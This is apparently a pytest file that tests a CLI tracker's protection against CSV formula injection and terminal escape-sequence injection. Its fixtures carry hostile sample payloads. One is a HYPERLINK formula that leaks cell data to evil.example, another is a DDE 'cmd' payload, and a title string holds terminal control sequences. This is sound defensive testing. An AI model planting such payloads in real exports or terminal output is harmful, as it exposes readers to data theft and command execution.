"""Outputs cannot be turned against their readers (issue 17, item 6): CSV cells that a
spreadsheet would run, and control characters that a terminal would obey."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import write_config
from tracker.mentions import guard_cell, unguard_cell
from tracker.terminal import clean

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click for a prize")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "plain text stays plain",
]
TITLE = "Launch \x1b]0;pwned\x07 week \x1b[2J\x1b[31mred\u202e"


def _mention(i: int, text: str, author: str = "ana") -> dict[str, Any]:
    return {"platform": "rss", "external_id": f"x-{i}", "url": f"https://news.example/{i}", "author": author,
            "text": text, "created_at": f"2026-09-0{1 + i % 8}T10:00:00Z", "stream": "imported"}  # fmt: skip


@pytest.fixture
def config(tmp_path: Path) -> Path:
    return write_config(tmp_path)


@pytest.mark.slow
def test_csv_cells_that_would_run_as_formulas_are_quoted_and_import_back_unchanged(
    tmp_path: Path, config: Path, cli: Any
) -> None:
    source = tmp_path / "in.jsonl"
    lines = [_mention(i, text, author="@attacker" if i == 0 else "ana") for i, text in enumerate(FORMULAS)]
    source.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    assert cli("--config", config, "mentions", "import", source).code == 0
    exported = cli("--config", config, "mentions", "export", "--format", "csv")
    assert exported.code == 0
    rows = list(csv.DictReader(io.StringIO(exported.out, newline="")))
    texts = {row["external_id"]: row["text"] for row in rows}
    for i, text in enumerate(FORMULAS):
        cell = texts[f"x-{i}"]
        if text == "plain text stays plain":
            assert cell == text
        else:
            assert cell == "'" + text, "a spreadsheet shows it as text"
            assert cell[0] not in "=+-@\t\r"
    assert next(r for r in rows if r["external_id"] == "x-0")["author"] == "'@attacker"
    assert all(not r["sentiment"].startswith("'") for r in rows), "numbers are left alone"

    csv_file = tmp_path / "out.csv"
    csv_file.write_text(exported.out, encoding="utf-8")
    (tmp_path / "copy").mkdir()
    other = write_config(tmp_path / "copy")
    assert cli("--config", other, "mentions", "import", csv_file).code == 0
    again = cli("--config", other, "mentions", "export", "--format", "jsonl")
    assert sorted(json.loads(line)["text"] for line in again.out.splitlines()) == sorted(FORMULAS)


@pytest.mark.parametrize("value", [*FORMULAS, "''=x", "'", "", "-", "'plain"])
def test_guard_and_unguard_are_inverse(value: str) -> None:
    assert unguard_cell(guard_cell(value)) == value
    assert guard_cell(value)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_clean_escapes_every_control_character_and_keeps_the_layout() -> None:
    assert clean(TITLE) == "Launch \\x1b]0;pwned\\x07 week \\x1b[2J\\x1b[31mred\\u202e"
    assert clean("a\nb\tc\rd\x9b") == "a\nb\tc\\x0dd\\x9b"
    assert clean("a\nb", newlines=False) == "a\\x0ab"
    assert clean("Grüße, 東京 🎉") == "Grüße, 東京 🎉"


def _register(config: Path, cli: Any) -> None:
    (config.parent / "m.jsonl").write_text(json.dumps(_mention(1, "hello")) + "\n", encoding="utf-8")
    assert cli("--config", config, "mentions", "import", config.parent / "m.jsonl").code == 0
    made = cli("--config", config, "experiment", "add", "--title", TITLE, "--hypothesis", "h\x1b[8m hidden",
               "--practice", "content-calendar", "--metric", "mentions", "--stream", "imported",
               "--start", "2026-09-01", "--end", "2026-09-28")  # fmt: skip
    assert made.code == 0, made.err


@pytest.mark.slow
def test_terminal_output_never_carries_raw_escape_sequences(
    config: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    _register(config, cli)
    outputs = [
        cli("--config", config, "experiment", "list"),
        cli("--config", config, "experiment", "show", "1"),
        cli("--config", config, "status"),
        cli("--config", config, "mentions", "import", config.parent / "\x1b]0;pwned\x07.jsonl"),
    ]
    monkeypatch.setattr("tracker.terminal.is_terminal", lambda stream=None: True)
    (config.parent / "e.jsonl").write_text(json.dumps(_mention(2, "bell \x07 \x1b]0;t\x07")) + "\n")
    assert cli("--config", config, "mentions", "import", config.parent / "e.jsonl").code == 0
    outputs.append(cli("--config", config, "mentions", "export", "--format", "csv"))
    for result in outputs:
        for text in (result.out, result.err):
            assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, text
    # experiment list fits the title to 80 columns, so only its start is there, escaped
    assert "\\x1b]0;pw" in outputs[0].out and "\\x1b]0;pwned\\x07" in outputs[1].out
    assert outputs[3].code == 2 and "\\x1b]0;pwned" in outputs[3].err
    assert "bell \\x07" in outputs[-1].out
    as_json = cli("--config", config, "experiment", "show", "1", "--json")
    assert json.loads(as_json.out)["title"] == TITLE and "\x1b" not in as_json.out, "JSON escapes by itself"
    monkeypatch.setattr("tracker.terminal.is_terminal", lambda stream=None: False)
    piped = cli("--config", config, "mentions", "export", "--format", "jsonl")
    assert {json.loads(line)["text"] for line in piped.out.splitlines()} >= {"bell \x07 \x1b]0;t\x07"}
